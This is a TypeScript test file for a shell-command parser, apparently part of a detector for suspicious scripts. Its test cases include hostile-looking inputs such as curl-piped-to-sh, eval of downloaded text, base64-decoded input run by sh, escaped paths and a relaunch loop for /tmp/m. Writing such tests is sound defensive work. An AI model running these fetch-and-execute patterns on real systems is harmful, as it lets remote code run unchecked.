import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Command, Word } from './commands-read.ts';
import { literalOf } from './commands-read.ts';
import { parseShell } from './parse-shell.ts';

const text = (word: Word): string =>
  literalOf(word) ??
  word.parts
    .map((part) =>
      part.kind === 'text'
        ? part.text
        : part.kind === 'variable'
          ? `<${part.name}>`
          : `(${shape(part.commands)})`,
    )
    .join('');
const shape = (commands: readonly Command[]): string =>
  commands
    .map((command) => {
      switch (command.kind) {
        case 'run':
          return [
            command.piped ? '|' : '',
            ...command.assigns.map(({ name, value }) => `${name}=${text(value)}`),
            ...command.words.map(text),
            ...command.redirects.map(({ operator, target }) => `${operator}${text(target)}`),
          ]
            .filter(Boolean)
            .join(' ');
        case 'for':
          return `for ${command.name} in ${command.values.map(text).join(' ')}`;
        case 'function':
          return `function ${command.name}`;
        default:
          return command.kind === 'open' ? '{' : '}';
      }
    })
    .join('; ');
const of = (script: string): string => shape(parseShell(script));

test.each([
  ['a b; c && d || e & f', 'a b; c; d; e; f'],
  ['curl -s http://x/i.sh | sh', 'curl -s http://x/i.sh; | sh'],
  ['if true; then /tmp/m; else /tmp/n; fi', 'true; /tmp/m; /tmp/n'],
  ['while :; do pgrep m || /tmp/m; sleep 5; done', ':; pgrep m; /tmp/m; sleep 5'],
  ['for d in /tmp /var/tmp; do $d/m; done', 'for d in /tmp /var/tmp; <d>/m'],
  ['for i in a b\ndo echo $i\ndone', 'for i in a b; echo <i>'],
  ['case $1 in start|restart) /opt/x ;; *) echo no;; esac; /tmp/m', '/opt/x; echo no; /tmp/m'],
  ['case "$x" in\n  (a)\n    /opt/x\n    ;;\nesac\n/tmp/m', '/opt/x; /tmp/m'],
  ['f() { /tmp/m; }; f', 'function f; /tmp/m; }; f'],
  ['function run { /tmp/m\n}\nrun', 'function run; /tmp/m; }; run'],
  ['(cd /tmp; ./m) ; ./n', '{; cd /tmp; ./m; }; ./n'],
  ['A=1 B="x y" /tmp/m', 'A=1 B=x y /tmp/m'],
  ['x=$(curl http://x); eval "$x"', 'x=(curl http://x); eval <x>'],
  ['echo \'a;b\' "c|d" e\\ f', 'echo a;b c|d e f'],
  ['/tmp/m >/dev/null 2>&1 </dev/null &', '/tmp/m >/dev/null </dev/null'],
  ['/tmp/m &>/tmp/log', '/tmp/m >/tmp/log'],
  [
    'cat >/tmp/x <<EOF\n/tmp/m $A\nEOF\n/tmp/n',
    'cat >/tmp/x <<\u2060; /tmp/n'.replace('\u2060', '/tmp/m <A>'),
  ],
  ["sh <<'E'\n/tmp/m $A\nE\n", 'sh <</tmp/m $A'],
  ['base64 -d <<< aGk= | sh', 'base64 -d <<<aGk=; | sh'],
  ['sh <(curl http://x)', 'sh (curl http://x)'],
  ["$'\\x2ftmp\\057m'", '/tmp/m'],
  ['~/.x/m ~', '<HOME>/.x/m <HOME>'],
  [`\${X:-/tmp/m} \${Y} "\${0%/*}/m"`, '<X> <Y> <0%>/m'],
  ['[[ -f /tmp/m && ! -d /x ]] && /tmp/m', '[ -f /tmp/m ! -d /x; /tmp/m'],
  ['(( i++ )); /tmp/m', '/tmp/m'],
  ['/tmp/m # /tmp/n\n# /tmp/o\n/tmp/p', '/tmp/m; /tmp/p'],
  ['curl -s \\\n http://x \\\r\n| sh', 'curl -s http://x; | sh'],
  ['a[1]=x; /tmp/m', 'a[1]=x; /tmp/m'],
  ['list=(/tmp/a /tmp/b); /tmp/m', 'list=/tmp/a /tmp/b; /tmp/m'],
])('%j holds the commands %s', (script, commands) => {
  expect(of(script)).toBe(commands);
});

test('commands know their line', () => {
  const lines = parseShell('#!/bin/sh\n\na="x\ny"\ncat <<E\n1\n2\nE\n/tmp/m\n').flatMap((c) =>
    c.kind === 'run' ? [c.line] : [],
  );
  expect(lines).toEqual([3, 5, 9]);
});

test("commands behind a newline in $'…' know theirs too", () => {
  const commands = parseShell("a=$'x\ny'\n/tmp/m\n");
  expect(commands.flatMap((c) => (c.kind === 'run' ? [c.line] : []))).toEqual([1, 3]);
});

test('any text is read', () => {
  const piece = fc.constantFrom(
    '$(',
    '`',
    '"',
    "'",
    '<<E\n',
    'case x in ',
    'esac',
    ')',
    '(',
    '((',
    '[[',
    '${',
    '}',
    '\\',
    '\n',
    ' a ',
    ';;',
    '|',
    '&',
    '>',
    '<(',
    "$'",
  );
  fc.assert(
    fc.property(
      fc.array(fc.oneof(piece, fc.string({ unit: 'binary', maxLength: 5 })), { maxLength: 60 }),
      (pieces) => {
        expect(Array.isArray(parseShell(pieces.join('')))).toBe(true);
      },
    ),
    { numRuns: 2000 },
  );
});
